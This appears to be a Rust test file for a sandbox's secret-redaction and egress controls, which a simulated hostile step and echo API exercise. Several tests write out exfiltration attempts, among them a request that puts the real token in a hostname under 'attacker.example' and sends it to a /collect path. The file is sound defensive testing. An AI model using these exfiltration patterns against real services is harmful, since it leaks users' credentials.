//! No secret leaves through a reflection, an encoding or a side channel:
//! a hostile API (the loopback stand-in) echoes what it received in every
//! form, and a hostile step that holds a real value tries every part of a
//! request. One test per class; each fails if its defence is removed.

use crate::secrets::{SEALED, World, http_result, refused_reason};
use crate::support::{GOOD_TOKEN, guest};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use serde_json::{Value, json};
use stephost::StepInput;
use stephost::secrets::PLACEHOLDER_PREFIX;

/// A GET to the stand-in's echo in `form`, carrying the sealed token; the
/// step keeps what it got (the body, or the headers) reversed in var
/// `seen`, so what it saw is not hidden by the host's redaction of what it
/// returns.
fn echo(form: &str) -> Value {
    json!({ "do": "http", "url": format!("https://slack.com/echo/{form}"),
            "headers": { "authorization": format!("Bearer {SEALED}") },
            "save": format!("seen{form}"), "reverse": true,
            "what": if form == "header-name" { "headers" } else { "body" } })
}

/// What the step itself got for its echo in `form`.
fn seen(outcome: &stephost::StepOutcome, form: &str) -> String {
    let vars = &outcome.result.as_ref().expect("the probe ran")["vars"];
    let reversed =
        vars[format!("seen{form}")].as_str().unwrap_or_else(|| panic!("no echo for {form}: {vars}"));
    reversed.chars().rev().collect()
}

/// Base64 read back as leniently as an attacker would: both alphabets, any
/// padding, the redacted placeholder taken out first.
fn unbase64(text: &str) -> String {
    let without: String = text
        .split(PLACEHOLDER_PREFIX)
        .map(|p| p.trim_start_matches(|c: char| c.is_ascii_hexdigit()))
        .collect();
    let alphabet: String = without
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || "+/-_".contains(*c))
        .map(|c| match c {
            '-' => '+',
            '_' => '/',
            c => c,
        })
        .collect();
    let usable = &alphabet[..alphabet.len() / 4 * 4];
    String::from_utf8_lossy(&STANDARD_NO_PAD.decode(usable).unwrap_or_default()).into_owned()
}

/// Hex read back leniently: the hex digits, in pairs.
fn unhex(text: &str) -> String {
    let digits: String = text.chars().filter(|c| c.is_ascii_hexdigit()).collect();
    String::from_utf8_lossy(&hex::decode(&digits[..digits.len() / 2 * 2]).unwrap_or_default()).into_owned()
}

#[tokio::test]
async fn an_echoed_basic_header_comes_back_exactly_as_the_step_wrote_it() {
    let world = World::new(&[]).await;
    let input = StepInput { secret_env: vec![("API_KEY".into(), GOOD_TOKEN.into())], ..Default::default() };
    let actions = json!([{ "do": "http", "url": "https://slack.com/echo/raw?whole", "basic": ["user", "{env:API_KEY}"],
                           "save": "seenraw", "reverse": true }]);
    let outcome = world.probe_with(&["https://slack.com"], actions, input).await;
    let placeholder = outcome.result.as_ref().unwrap()["env"]["API_KEY"].as_str().unwrap().to_string();
    let sent = world.slack.requests()[0].header("authorization").unwrap().to_string();
    assert_eq!(
        sent,
        format!("Basic {}", STANDARD.encode(format!("user:{GOOD_TOKEN}"))),
        "the API got the real value"
    );
    assert_eq!(
        seen(&outcome, "raw"),
        format!("Basic {}", STANDARD.encode(format!("user:{placeholder}"))),
        "the echo of what the host sent is what the step wrote"
    );
}

/// Runs the stand-in's echo in each of `forms` and checks what the step
/// got: the placeholder is there, and `decode` (the form's decoding, done
/// as leniently as an attacker would) recovers neither the token nor most
/// of it.
async fn assert_echoes_redacted(forms: &[&str], decode: impl Fn(&str) -> String) {
    let world = World::new(&[]).await;
    let outcome = world.probe(&[], forms.iter().map(|f| echo(f)).collect()).await;
    let most = &GOOD_TOKEN[4..GOOD_TOKEN.len() - 4];
    for form in forms {
        let got = seen(&outcome, form);
        assert!(got.contains(PLACEHOLDER_PREFIX), "{form}: not redacted: {got}");
        let decoded = decode(&got);
        assert!(!decoded.contains(most) && !got.contains(most), "{form}: recoverable from {got}");
    }
}

#[tokio::test]
async fn echoed_secrets_are_redacted_in_base64_at_any_offset_in_either_alphabet() {
    let forms = ["base64", "base64url", "base64-after-1", "base64-after-2", "base64-after-3"];
    assert_echoes_redacted(&forms, unbase64).await;
}

#[tokio::test]
async fn echoed_secrets_are_redacted_in_hex_of_either_case() {
    assert_echoes_redacted(&["hex", "HEX"], unhex).await;
}

#[tokio::test]
async fn echoed_secrets_are_redacted_percent_encoded_in_either_case() {
    let decode = |text: &str| percent_encoding::percent_decode_str(text).decode_utf8_lossy().into_owned();
    assert_echoes_redacted(&["percent", "form"], decode).await;
}

#[tokio::test]
async fn echoed_secrets_are_redacted_with_some_or_all_characters_json_escaped() {
    let decode =
        |text: &str| serde_json::from_str::<Value>(text).unwrap()["token"].as_str().unwrap().to_string();
    assert_echoes_redacted(&["json-u", "json-some"], decode).await;
}

#[tokio::test]
async fn a_secret_in_a_response_header_name_is_redacted() {
    let world = World::new(&[]).await;
    let outcome = world.probe(&[], json!([echo("header-name")])).await;
    let headers = seen(&outcome, "header-name");
    assert!(!headers.contains(&GOOD_TOKEN.to_ascii_lowercase()), "{headers}");
    assert!(headers.contains(&format!("x-echo-{PLACEHOLDER_PREFIX}")), "{headers}");
}

#[tokio::test]
async fn encoded_echoes_streamed_a_byte_at_a_time_are_redacted() {
    let forms = ["chunked-raw", "chunked-base64-after-2", "chunked-json-u", "chunked-HEX", "chunked-percent"];
    let decode = |text: &str| format!("{} {}", unbase64(text), unhex(text));
    assert_echoes_redacted(&forms, decode).await;
}

#[tokio::test]
async fn a_compressed_body_that_does_not_say_so_is_refused_after_a_request_with_a_secret() {
    let world = World::new(&[]).await;
    let carrying = json!({ "do": "http", "url": "https://slack.com/gzip-unlabelled",
                           "headers": { "authorization": format!("Bearer {SEALED}") } });
    let double = json!({ "do": "http", "url": "https://slack.com/double-coding" });
    let plain = json!({ "do": "http", "url": "https://slack.com/gzip-unlabelled" });
    let outcome = world.probe(&[], json!([carrying, double, plain])).await;
    let refused = http_result(&outcome, 0);
    assert!(refused["error"].is_string(), "the gzip body is refused: {refused}");
    let reason = refused_reason(&outcome);
    assert!(reason.contains("gzip-compressed without saying so"), "{reason}");
    let double = http_result(&outcome, 1);
    assert!(double["error"].is_string(), "two codings are refused: {double}");
    assert!(outcome.egress[1].error.as_deref().unwrap().contains("identity, gzip"));
    assert_eq!(
        http_result(&outcome, 2)["status"],
        200,
        "a request that carried no secret may get a .gz file"
    );
}

/// Runs one request whose `part` holds the real token (an event could hand
/// it to the step), then one ordinary request; both must be refused.
async fn real_value_in(world: &World, allowed: &[&str], request: Value) -> String {
    let ordinary = json!({ "do": "http", "url": "https://slack.com/api/auth.test",
                           "headers": { "authorization": format!("Bearer {SEALED}") } });
    let outcome = world.probe(allowed, json!([request, ordinary])).await;
    assert!(http_result(&outcome, 0)["error"].is_string(), "refused: {:?}", outcome.egress);
    assert!(http_result(&outcome, 1)["error"].is_string(), "the run's egress is closed");
    assert_eq!(world.slack.requests().len(), 0, "nothing reached the stand-in");
    refused_reason(&outcome)
}

#[tokio::test]
async fn a_real_value_in_any_part_of_the_request_head_is_refused_and_closes_egress() {
    let parts = [
        ("the method", json!({ "do": "http", "method": GOOD_TOKEN, "url": "https://slack.com/api" })),
        ("the URL path", json!({ "do": "http", "url": format!("https://slack.com/api/{GOOD_TOKEN}") })),
        (
            "a query parameter name",
            json!({ "do": "http", "url": format!("https://slack.com/api?{GOOD_TOKEN}=1") }),
        ),
        (
            "a header name",
            json!({ "do": "http", "url": "https://slack.com/api", "headers": { format!("x-{GOOD_TOKEN}"): "1" } }),
        ),
        ("the host", json!({ "do": "http", "url": format!("https://{GOOD_TOKEN}.slack.com/") })),
    ];
    for (part, request) in parts {
        let world = World::new(&[]).await;
        let reason = real_value_in(&world, &[], request).await;
        assert!(reason.starts_with("the real value of secret slack.oauth_access_token"), "{part}: {reason}");
        assert!(reason.ends_with(part), "{part}: {reason}");
    }
}

#[tokio::test]
async fn a_host_name_holding_a_real_value_is_never_resolved() {
    // Were the name resolved, this hosts-table answer (loopback) would be
    // refused by the SSRF guard instead, naming the address.
    let name = format!("{GOOD_TOKEN}.attacker.example");
    let world = World::new(&[(name.as_str(), "127.0.0.1")]).await;
    let request = json!({ "do": "http", "url": format!("https://{name}/collect") });
    let reason = real_value_in(&world, &["https://*.attacker.example"], request).await;
    assert!(reason.starts_with("the real value of secret"), "{reason}");
    assert!(!reason.contains("resolved"), "{reason}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn records_the_audit_and_run_json_never_hold_a_real_value() {
    let data = tempfile::tempdir().unwrap();
    let inputs = tempfile::tempdir().unwrap();
    for url in [
        format!("https://slack.com/x/{GOOD_TOKEN}?{GOOD_TOKEN}=1"),
        format!("https://{GOOD_TOKEN}.example.com/"),
    ] {
        let event = inputs.path().join("event.json");
        std::fs::write(&event, json!({ "actions": [{ "do": "http", "url": url }] }).to_string()).unwrap();
        let out = crate::support::stephost_async(
            data.path(),
            &[
                "run",
                guest("probe").to_str().unwrap(),
                "--auth",
                &format!("slack.oauth_access_token={GOOD_TOKEN}"),
                "--event",
                event.to_str().unwrap(),
                "--json",
            ],
            None,
        )
        .await;
        let printed =
            format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        let run: Value = serde_json::from_slice(&out.stdout).expect(&printed);
        assert!(run["egress"][0]["error"].as_str().unwrap().starts_with("the real value"), "{printed}");
        assert!(
            run["egress"][0]["path"].as_str().unwrap().contains(PLACEHOLDER_PREFIX)
                || run["egress"][0]["host"].as_str().unwrap().contains(PLACEHOLDER_PREFIX),
            "{printed}"
        );
        assert!(!printed.contains(GOOD_TOKEN), "{printed}");
    }
    crate::support::assert_not_stored(data.path(), &[GOOD_TOKEN]);
    let audit = std::fs::read_to_string(data.path().join("audit.jsonl")).unwrap();
    assert!(audit.contains("\"allowed\":false"), "the refusals are audited");
}
